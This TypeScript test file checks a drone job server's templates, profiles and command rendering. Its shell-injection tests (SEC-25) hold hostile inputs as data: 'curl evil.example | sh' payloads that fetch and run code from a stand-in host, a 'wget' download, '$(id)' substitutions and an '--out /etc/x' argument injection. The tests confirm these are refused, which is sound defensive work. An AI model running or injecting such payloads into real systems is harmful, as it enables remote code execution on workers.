import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTarget, type Target } from '../support/target.js';
import { registerAgent } from '../support/fixtures.js';

/** Job templates, rendering for a drone (SEC-25) and drone profiles (spec 05 §5.3, §6, §7, §17). */
let t: Target;
beforeAll(async () => {
  t = await startTarget();
});
afterAll(() => t.close());

const linux = { os: 'linux', home: '/home/ops', disk_free_gb: 200 };
const claim = (key: string, capabilities: string[]) =>
  t.call('POST', '/drones/claim', { agentKey: key, body: { capabilities } });
const jobRow = (id: number) => t.db.get<Record<string, any>>('SELECT * FROM drone_jobs WHERE id = ?', [id]);

async function droneWith(id: string, caps: string[], systemInfo: Record<string, unknown> | null = linux) {
  const d = await registerAgent(t, id, 'drone', { capabilities: caps });
  if (systemInfo)
    await t.call('POST', '/agents/heartbeat', {
      agentKey: d.key,
      body: { state_snapshot: { system_info: systemInfo } },
    });
  return d;
}

describe('templates CRUD (spec 05 §6)', () => {
  it('admin creates, reads, updates and deletes; agents may only read', async () => {
    const a = await registerAgent(t, 'tpl-reader', 'lab');
    const c = await t.call('POST', '/drones/templates', {
      admin: true,
      body: {
        id: 'crud-tpl',
        requires: ['gpu'],
        min_disk_gb: 0,
        python_deps: ['torch'],
        artifacts: ['gen.py'],
        command_template: '{{python}} gen.py',
      },
    });
    expect(c.status).toBe(200);
    expect(c.body).toMatchObject({
      id: 'crud-tpl',
      name: 'crud-tpl',
      requires: '["gpu"]',
      min_disk_gb: 0,
      python_deps: '["torch"]',
      artifacts: '["gen.py"]',
    });
    const dup = await t.call('POST', '/drones/templates', { admin: true, body: { id: 'crud-tpl' } });
    expect(dup.status).toBe(409);
    expect(dup.body.error).toBe('Template already exists: crud-tpl');
    expect((await t.call('POST', '/drones/templates', { admin: true, body: {} })).body.error).toBe('id is required');
    const unbalanced = await t.call('POST', '/drones/templates', {
      admin: true,
      body: { id: 'bad-quote', command_template: 'run "{{x}}' },
    });
    expect(unbalanced.status).toBe(400);
    expect(unbalanced.body.error).toMatch(/unbalanced quote/);
    expect([401, 403]).toContain(
      (await t.call('POST', '/drones/templates', { agentKey: a.key, body: { id: 'agent-tpl' } })).status,
    );

    const list = await t.call('GET', '/drones/templates', { agentKey: a.key });
    expect(list.body.map((x: { id: string }) => x.id)).toEqual(expect.arrayContaining(['3d_print', 'crud-tpl']));
    const u = await t.call('PUT', '/drones/templates/crud-tpl', {
      admin: true,
      body: { name: 'Renamed', min_vram_gb: 0 },
    });
    expect(u.body).toMatchObject({ id: 'crud-tpl', name: 'Renamed', min_vram_gb: 0 });
    expect(
      (await t.call('PUT', '/drones/templates/crud-tpl', { agentKey: a.key, body: { name: 'x' } })).status,
    ).not.toBe(200);

    // Literal paths win over /drones/:id: this is a template named "pause", not a drone (§17.2).
    const pause = await t.call('PUT', '/drones/templates/pause', { admin: true, body: { name: 'x' } });
    expect(pause.status).toBe(404);
    expect(pause.body).toEqual({ error: 'Template not found' });

    expect((await t.call('DELETE', '/drones/templates/crud-tpl', { admin: true })).body).toEqual({
      ok: true,
      deleted: 'crud-tpl',
    });
    expect((await t.call('GET', '/drones/templates/crud-tpl', { admin: true })).status).toBe(404);
  });
});

describe('rendering never lets shell syntax through (spec 05 §5.3, §17.1 C-2, SEC-25)', () => {
  const TEMPLATE = '{{python}} gen.py --prompt "{{prompt}}" --steps {{steps}}';
  let agentKey: string;
  beforeAll(async () => {
    await t.call('POST', '/drones/templates', {
      admin: true,
      body: { id: 'flux', requires: ['rcap'], min_disk_gb: 1, artifacts: ['gen.py'], command_template: TEMPLATE },
    });
    agentKey = (await registerAgent(t, 'render-agent', 'lab')).key;
  });

  it('SEC-25: values carrying shell syntax are refused at queue time with a 400 naming the key; nothing is stored', async () => {
    const before = Number((await t.db.get<{ n: number }>('SELECT COUNT(*) AS n FROM drone_jobs'))!.n);
    const evil = [
      'a"; curl evil.example | sh; echo "',
      '; curl http://evil.example/x | sh',
      'x `id`',
      'x $(id)',
      'line1\nline2',
      'a & b',
      'back\\slash',
    ];
    for (const prompt of evil) {
      for (const path of ['/drones/jobs', '/drones/jobs/from-template']) {
        const body =
          path === '/drones/jobs'
            ? { title: 'r', job_type: 'flux', input_data: { prompt, steps: 30 } }
            : { template_id: 'flux', input_data: { prompt, steps: 30 } };
        const r = await t.call('POST', path, { agentKey, body });
        expect(r.status, `${path} ${JSON.stringify(prompt)}`).toBe(400);
        expect(r.body.error).toMatch(/^Input value for "prompt"/);
      }
    }
    // Argument injection through an unquoted placeholder, and non-scalar values.
    const inj = await t.call('POST', '/drones/jobs', {
      agentKey,
      body: { title: 'r', job_type: 'flux', input_data: { prompt: 'ok', steps: '30 --out /etc/x' } },
    });
    expect(inj.status).toBe(400);
    expect(inj.body.error).toMatch(/^Input value for "steps" contains whitespace/);
    await t.call('POST', '/drones/templates', {
      admin: true,
      body: { id: 'single-q', requires: ['rcap'], command_template: "run --a '{{a}}' --b '{{b}}'" },
    });
    const apos = await t.call('POST', '/drones/jobs', {
      agentKey,
      body: { title: 'r', job_type: 'single-q', input_data: { a: "x' --out /etc/x '", b: 'y' } },
    });
    expect(apos.status).toBe(400);
    expect(apos.body.error).toMatch(/^Input value for "a" contains an apostrophe/);
    const obj = await t.call('POST', '/drones/jobs', {
      agentKey,
      body: { title: 'r', job_type: 'flux', input_data: { prompt: { a: 1 }, steps: 3 } },
    });
    expect(obj.status).toBe(400);
    expect(Number((await t.db.get<{ n: number }>('SELECT COUNT(*) AS n FROM drone_jobs'))!.n)).toBe(before);
  });

  it('normal prose renders into one argument; the claim carries the command, its argument vector, artifacts and workspace', async () => {
    const prompt = "a rugged man's face, cinematic (detailed), 85mm";
    const q = await t.call('POST', '/drones/jobs', {
      agentKey,
      body: {
        title: 'portrait',
        job_type: 'flux',
        input_data: { prompt, steps: 30, python: 'wget -O/tmp/x http://evil', '(': 'odd key' },
      },
    });
    expect(q.status).toBe(200);
    const d = await droneWith('render-drone', ['rcap']);
    const r = await claim(d.key, ['rcap']);
    expect(r.status).toBe(200);
    const job = r.body.job;
    expect(job.id).toBe(q.body.id);
    // The platform's python wins over an input key of the same name.
    expect(job.command).toBe(`python3 gen.py --prompt "${prompt}" --steps 30`);
    expect(JSON.parse(job.command_argv)).toEqual(['python3', 'gen.py', '--prompt', prompt, '--steps', '30']);
    const input = JSON.parse(job.input_data);
    expect(input).toMatchObject({
      prompt,
      steps: 30,
      artifacts: ['gen.py'],
      workspace_dir: '/home/ops/.mycelium/workspaces/flux',
      setup_steps: [],
    });
  });

  it('SEC-25: a bad value that reaches the queue anyway is skipped at claim time with the reason; the drone takes the next job', async () => {
    // Written directly: a job stored before this server validated at queue time.
    const bad = await t.db.get<{ id: number }>(
      `INSERT INTO drone_jobs (title, input_data, requires, requester, job_type, priority) VALUES ('legacy', ?, '["rcap2"]', 'old-agent', 'flux2', 9) RETURNING id`,
      [JSON.stringify({ prompt: 'a"; curl evil.example | sh; echo "', steps: 30 })],
    );
    await t.call('POST', '/drones/templates', {
      admin: true,
      body: { id: 'flux2', requires: ['rcap2'], min_disk_gb: 1, command_template: TEMPLATE },
    });
    const good = await t.call('POST', '/drones/jobs', {
      agentKey,
      body: { title: 'fine', job_type: 'flux2', input_data: { prompt: 'a cat', steps: 4 } },
    });
    const d = await droneWith('skip-drone', ['rcap2']);
    const r = await claim(d.key, ['rcap2']);
    expect(r.body.job.id).toBe(good.body.id);
    const row = await jobRow(bad!.id);
    expect(row).toMatchObject({ status: 'pending', drone_id: null, started_at: null, command: '' });
    expect(row!.skip_reason).toMatch(/Input value for "prompt" contains disallowed shell characters/);
    const again = await claim(d.key, ['rcap2']);
    expect(again.body).toMatchObject({
      job: null,
      skipped: { job_id: bad!.id, reason: expect.stringMatching(/"prompt"/) },
    });
  });

  it('hardware and diagnostics: a drone without diagnostics or GPU skips the job; a job whose template is gone is failed, not left blocking', async () => {
    await t.call('POST', '/drones/templates', {
      admin: true,
      body: { id: 'gpu-tpl', requires: ['gpu'], command_template: 'run' },
    });
    const g = await t.call('POST', '/drones/jobs', { admin: true, body: { title: 'needs gpu', job_type: 'gpu-tpl' } });
    const blind = await droneWith('blind-drone', ['gpu'], null);
    const r1 = await claim(blind.key, ['gpu']);
    expect(r1.body.skipped).toEqual({
      job_id: g.body.id,
      reason: 'No diagnostics available for drone blind-drone. Drone must heartbeat first.',
    });
    const cpuOnly = await droneWith('nogpu-drone', ['gpu'], { os: 'linux', cuda_available: false });
    expect((await claim(cpuOnly.key, ['gpu'])).body.skipped.reason).toBe('Template requires GPU but drone has none');

    await t.call('POST', '/drones/templates', {
      admin: true,
      body: { id: 'doomed', requires: ['doomcap'], command_template: 'run' },
    });
    const doomed = await t.call('POST', '/drones/jobs', { admin: true, body: { title: 'orphan', job_type: 'doomed' } });
    await t.call('DELETE', '/drones/templates/doomed', { admin: true });
    const d = await droneWith('doom-drone', ['doomcap']);
    expect((await claim(d.key, ['doomcap'])).body.job).toBeNull();
    expect(await jobRow(doomed.body.id)).toMatchObject({ status: 'failed', error: 'Template not found: doomed' });
  });

  it('a retried template job keeps job_type and is rendered again for the next drone (§17.2)', async () => {
    await t.call('POST', '/drones/templates', {
      admin: true,
      body: { id: 'rr-tpl', requires: ['rrcap'], command_template: '{{python}} run.py --n {{n}}' },
    });
    const q = await t.call('POST', '/drones/jobs', {
      agentKey,
      body: { title: 'rr', job_type: 'rr-tpl', input_data: { n: 2 } },
    });
    const win = await droneWith('rr-win', ['rrcap'], { os: 'windows', disk_free_gb: 50, username: 'ops' });
    const first = await claim(win.key, ['rrcap']);
    expect(first.body.job.command).toBe('python run.py --n 2');
    await t.call('PUT', `/drones/jobs/${q.body.id}`, { agentKey: win.key, body: { status: 'failed' } });
    const retry = await t.db.get<Record<string, any>>(
      "SELECT * FROM drone_jobs WHERE json_extract(input_data, '$._original_job_id') = ?",
      [q.body.id],
    );
    expect(retry).toMatchObject({ job_type: 'rr-tpl', command: '', status: 'pending' });
    const lin = await droneWith('rr-linux', ['rrcap']);
    const second = await claim(lin.key, ['rrcap']);
    expect(second.body.job.id).toBe(retry!.id);
    expect(second.body.job.command).toBe('python3 run.py --n 2');
    expect(JSON.parse(second.body.job.input_data).workspace_dir).toBe('/home/ops/.mycelium/workspaces/rr-tpl');
  });
});

describe('drone profiles (spec 05 §7)', () => {
  it('create, list with drones, secret env only for admins and assigned drones, update invalidates setup, by-drone, unassign', async () => {
    const bad1 = await t.call('POST', '/drones/profiles', { admin: true, body: { name: 'x' } });
    expect(bad1.body.error).toBe('id is required (slug, e.g. "kc-art-gen")');
    expect((await t.call('POST', '/drones/profiles', { admin: true, body: { id: 'p-x' } })).body.error).toBe(
      'name is required',
    );
    const c = await t.call('POST', '/drones/profiles', {
      admin: true,
      body: {
        id: 'art-gen',
        name: 'Art',
        requires: { gpu: true },
        artifacts: ['gen.py'],
        env: { HF_TOKEN: 'secret-token' },
      },
    });
    expect(c.status).toBe(200);
    expect(c.body).toMatchObject({ id: 'art-gen', requires: '{"gpu":true}', artifacts: '["gen.py"]' });
    expect(
      (await t.call('POST', '/drones/profiles', { admin: true, body: { id: 'art-gen', name: 'Again' } })).status,
    ).toBe(409);

    const d = await registerAgent(t, 'prof-drone', 'drone', { capabilities: ['cpu'] });
    const other = await registerAgent(t, 'prof-other', 'lab');
    expect((await t.call('POST', '/drones/profiles/art-gen/assign', { admin: true, body: {} })).body.error).toBe(
      'drone_id is required',
    );
    expect(
      (await t.call('POST', '/drones/profiles/art-gen/assign', { admin: true, body: { drone_id: 'ghost' } })).status,
    ).toBe(404);
    expect(
      (await t.call('POST', '/drones/profiles/nope/assign', { admin: true, body: { drone_id: d.id } })).body.error,
    ).toBe('Profile not found: nope');
    expect(
      (await t.call('POST', '/drones/profiles/art-gen/assign', { admin: true, body: { drone_id: d.id } })).body,
    ).toEqual({ ok: true, drone_id: d.id, profile_id: 'art-gen' });

    const asOther = await t.call('GET', '/drones/profiles/art-gen', { agentKey: other.key });
    expect(asOther.body.env).toEqual({});
    expect(asOther.text).not.toContain('secret-token');
    expect((await t.call('GET', '/drones/profiles', { agentKey: other.key })).text).not.toContain('secret-token');
    const asDrone = await t.call('GET', '/drones/profiles/art-gen', { agentKey: d.key });
    expect(asDrone.body).toMatchObject({
      env: { HF_TOKEN: 'secret-token' },
      requires: { gpu: true },
      artifacts: ['gen.py'],
      drones: [{ drone_id: d.id, setup_done: 0 }],
    });
    const boot = await t.call('GET', `/drones/profiles/by-drone/${d.id}`, { agentKey: d.key });
    expect(boot.body).toEqual([
      expect.objectContaining({
        drone_id: d.id,
        profile_id: 'art-gen',
        name: 'Art',
        env: { HF_TOKEN: 'secret-token' },
        setup_done: 0,
      }),
    ]);
    expect((await t.call('GET', '/drones/profiles/by-drone/nobody', { admin: true })).body).toEqual([]);

    await t.call('POST', '/drones/profiles/art-gen/setup-complete', { agentKey: d.key, body: { checksum: 'c1' } });
    expect((await t.call('GET', `/drones/profiles/by-drone/${d.id}`, { admin: true })).body[0]).toMatchObject({
      setup_done: 1,
      checksum: 'c1',
    });
    const u = await t.call('PUT', '/drones/profiles/art-gen', {
      admin: true,
      body: { setup_script: 'pip install diffusers' },
    });
    expect(u.body).toMatchObject({ id: 'art-gen', setup_script: 'pip install diffusers' });
    expect((await t.call('GET', `/drones/profiles/by-drone/${d.id}`, { admin: true })).body[0]).toMatchObject({
      setup_done: 0,
      checksum: '',
    });

    expect((await t.call('DELETE', `/drones/profiles/art-gen/assign/${d.id}`, { admin: true })).body).toEqual({
      ok: true,
      unassigned: true,
    });
    expect((await t.call('GET', `/drones/profiles/by-drone/${d.id}`, { admin: true })).body).toEqual([]);
  });

  it('deleting a profile fails the pending jobs gated on it instead of leaving them unclaimable (§17.2)', async () => {
    await t.call('POST', '/drones/profiles', { admin: true, body: { id: 'short-lived', name: 'Short' } });
    const q = await t.call('POST', '/drones/jobs', {
      admin: true,
      body: { title: 'gated', requires: ['cpu'], profile_id: 'short-lived' },
    });
    expect((await t.call('DELETE', '/drones/profiles/short-lived', { admin: true })).body).toEqual({
      ok: true,
      deleted: 'short-lived',
    });
    expect(await jobRow(q.body.id)).toMatchObject({ status: 'failed', error: 'Profile deleted: short-lived' });
    expect((await t.call('GET', '/drones/profiles/short-lived', { admin: true })).status).toBe(404);
  });
});
